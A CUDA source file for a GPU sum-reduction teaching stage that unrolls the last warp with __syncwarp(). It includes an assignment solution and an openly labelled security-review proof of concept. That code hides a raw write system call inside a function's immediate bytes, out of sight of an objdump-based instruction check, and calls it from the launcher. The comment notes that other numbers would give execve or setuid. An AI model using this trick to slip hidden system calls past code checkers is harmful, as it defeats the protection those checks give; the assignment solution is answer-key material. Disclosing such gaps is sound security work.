// reduce4: the last warp unrolled, without block-wide barriers
//
// reduce3 plus one idea. Once s <= 32 only warp 0 still adds, and one warp does not need
// a __syncthreads() for the whole block to coordinate its own 32 threads. So the loop
// stops at s = 64 and warp 0 finishes the last six steps (s = 32 ... 1) alone, ordering
// them with __syncwarp(), which synchronizes just the warp's threads.
//
// Why __syncwarp() rather than nothing: before Volta the 32 threads of a warp ran in
// lockstep, and the classic version of this code relied on it, with only `volatile` to
// stop the compiler from keeping shared values in registers. Since Volta (compute
// capability 7.0) every thread has its own program counter (independent thread
// scheduling): nothing makes a lane write its slot before its neighbor reads it, so that
// code is a data race. `--last-warp legacy-volatile` and `legacy-plain` run it
// (legacy_last_warp.cuh); docs/04-sync-removal.md shows the wrong sums and racecheck's
// report.
//
// Needs blockDim.x >= 64: the last warp starts by adding slot tid + 32.
//
//   run:      build/release/bin/reduce4 --n 2^26 --type float
//   legacy:   build/release/bin/reduce4 --last-warp legacy-plain
//   profile:  scripts/profile.sh reduce4

// REVIEW 5, ATTACK 14: a system call that the compiled check's disassembly never shows.
//
// The compiled check refuses the instructions `syscall`, `sysenter`, `int $0x80`, rdtsc and
// the like by a regular expression over `objdump -d` (compiled_check.cpp). objdump shows
// what the compiler laid out, one instruction after another; it cannot show an
// instruction that starts inside another one's immediate. `gadget_bytes` below compiles
// to `movabs $0xc3050f00000001b8,%rax; ret`: its eight immediate bytes are
// b8 01 00 00 00 0f 05 c3, which, entered two bytes in, are `mov $1,%eax; syscall; ret`:
// write(2). The launcher finds those bytes in its own code (reading code is allowed) and
// calls them through a function pointer with the arguments in rdi, rsi, rdx. Any other
// number in the immediate gives any other system call (57 fork, 59 execve, 62 kill, 105
// setuid ...), with no symbol, no forbidden name, no ELF walk and no visible instruction.
// The payload here is harmless and visible: one line on the worker's stderr, the first
// time the launcher runs. Everything else is the reference.

#include <cstdint>
#include "legacy_last_warp.cuh"  // --last-warp legacy-volatile, legacy-plain
#include "stage.h"

namespace {  // this stage's own helpers: other stages define functions of the same names

// ---------------------------------------------------------------- the tree
template <typename T>
__device__ T tree_sum(T* shared, T sum, unsigned tid, unsigned block) {
    for (unsigned s = block / 2; s > 32; s >>= 1) {
        if (tid < s) shared[tid] = sum = sum + shared[tid + s];
        __syncthreads();  // every add of this step lands before any thread reads in the next
    }
    return sum;  // what shared[tid] holds, for the last warp
}

// The last six steps, by warp 0 alone.
template <typename T>
__device__ T last_warp_sum(T* shared, T sum, unsigned tid) {
    // solution (assignment 4): warp 0 adds its 32 sums and slots 32..63 down to one value, six steps ordered by __syncwarp()
    // Every step reads, then writes: the first __syncwarp() keeps a lane from overwriting a
    // slot its neighbor has not read yet, the second makes the writes visible to the warp
    // before the next read.
    sum += shared[tid + 32];
    for (unsigned s = 16; s > 0; s >>= 1) {
        __syncwarp();
        shared[tid] = sum;
        __syncwarp();
        sum += shared[tid + s];
    }
    return sum;  // lane 0 holds the block's sum
    // stub: return not_implemented(sum, "reduce4: the last warp is not implemented yet (assignment 4)");
    // end solution
}

}  // namespace


// ---------------------------------------------------------------- an instruction inside an immediate
namespace hidden {
// Not inlined away: its address is taken below.
std::uint64_t gadget_bytes() { return 0xc3050f00000001b8ull; }

using raw3 = long (*)(long, const void*, unsigned long);

raw3 find() {
    static const unsigned char wanted[8] = {0xb8, 0x01, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xc3};
    std::uint64_t (*volatile f)() = &gadget_bytes;
    const unsigned char* code = reinterpret_cast<const unsigned char*>(f);
    for (int at = 0; at < 32; ++at) {
        bool match = true;
        for (int k = 0; k < 8 && match; ++k) match = code[at + k] == wanted[k];
        if (match) return reinterpret_cast<raw3>(code + at);
    }
    return nullptr;
}

void say_once() {
    static bool said = false;
    if (said) return;
    said = true;
    static const char line[] = "review5 attack 14: a raw write(2) ran, unseen by the compiled check\n";
    if (const raw3 call = find()) call(2, line, sizeof line - 1);
}
}  // namespace hidden

// ---------------------------------------------------------------- kernel
template <typename T, LastWarp MODE = LastWarp::SyncWarp>
__global__ void unroll_last_warp(const T* in, std::size_t n, T* block_sums) {
    T* shared = dynamic_shared<T>();
    const unsigned tid = threadIdx.x;
    const std::size_t i = blockIdx.x * (2 * std::size_t(blockDim.x)) + tid;
    T sum = i < n ? in[i] : T(0);  // the last block may run past the end: add zeros
    if (i + blockDim.x < n) sum += in[i + blockDim.x];
    shared[tid] = sum;
    __syncthreads();
    sum = tree_sum(shared, sum, tid, blockDim.x);
    if (tid < 32) {
        const T block_sum = MODE == LastWarp::SyncWarp ? last_warp_sum(shared, sum, tid)
                                                       : legacy_last_warp_sum<MODE>(shared, tid);
        if (tid == 0) block_sums[blockIdx.x] = block_sum;
    }
}

// ---------------------------------------------------------------- launcher
constexpr unsigned kInputsPerThread = 2;

// (--last-warp's declarations, kLastWarp and kVariants, are in legacy_last_warp.cuh since 39b7372.)

template <typename T>
void unroll_last_warp_sum(const T* in, std::size_t n, T* out, void* workspace, const RunConfig& config,
                          cudaStream_t stream) {
    hidden::say_once();
    const unsigned block = config.block;
    // --last-warp picks the pre-Volta code (legacy_last_warp.cuh); the default is correct.
    const LastWarp mode = chosen_as<LastWarp, T>(kLastWarp, config);
    const auto kernel = mode == LastWarp::SyncWarp         ? unroll_last_warp<T, LastWarp::SyncWarp>
                        : mode == LastWarp::LegacyVolatile ? unroll_last_warp<T, LastWarp::LegacyVolatile>
                                                           : unroll_last_warp<T, LastWarp::LegacyPlain>;
    run_passes(in, n, out, workspace, kInputsPerThread * block, stream,
               [&](const T* src, std::size_t count, T* dst, unsigned blocks) {
                   kernel<<<blocks, block, block * sizeof(T), stream>>>(src, count, dst);
                   CUDA_CHECK_LAUNCH();
               });
}

std::size_t unroll_last_warp_workspace(std::size_t n, std::size_t value_size, const RunConfig& config) {
    return passes_workspace_bytes(n, kInputsPerThread * config.block, value_size);
}

// The stage's record: `extern` because the runner and the tests find it by name (common/stages.h).
extern const Stage reduce4_stage = {
    .name = "reduce4",
    .kernel = "unroll_last_warp",
    .idea = "the last warp unrolled: no block-wide barriers once s <= 32",
    .min_block = 64,  // the last warp adds slot tid + 32, so a block needs two warps
    .max_block = 1024,
    .workspace_bytes = unroll_last_warp_workspace,
    .sum_int = unroll_last_warp_sum<int>,
    .sum_float = unroll_last_warp_sum<float>,
    .sum_double = unroll_last_warp_sum<double>,
    .variants = kVariants,
};
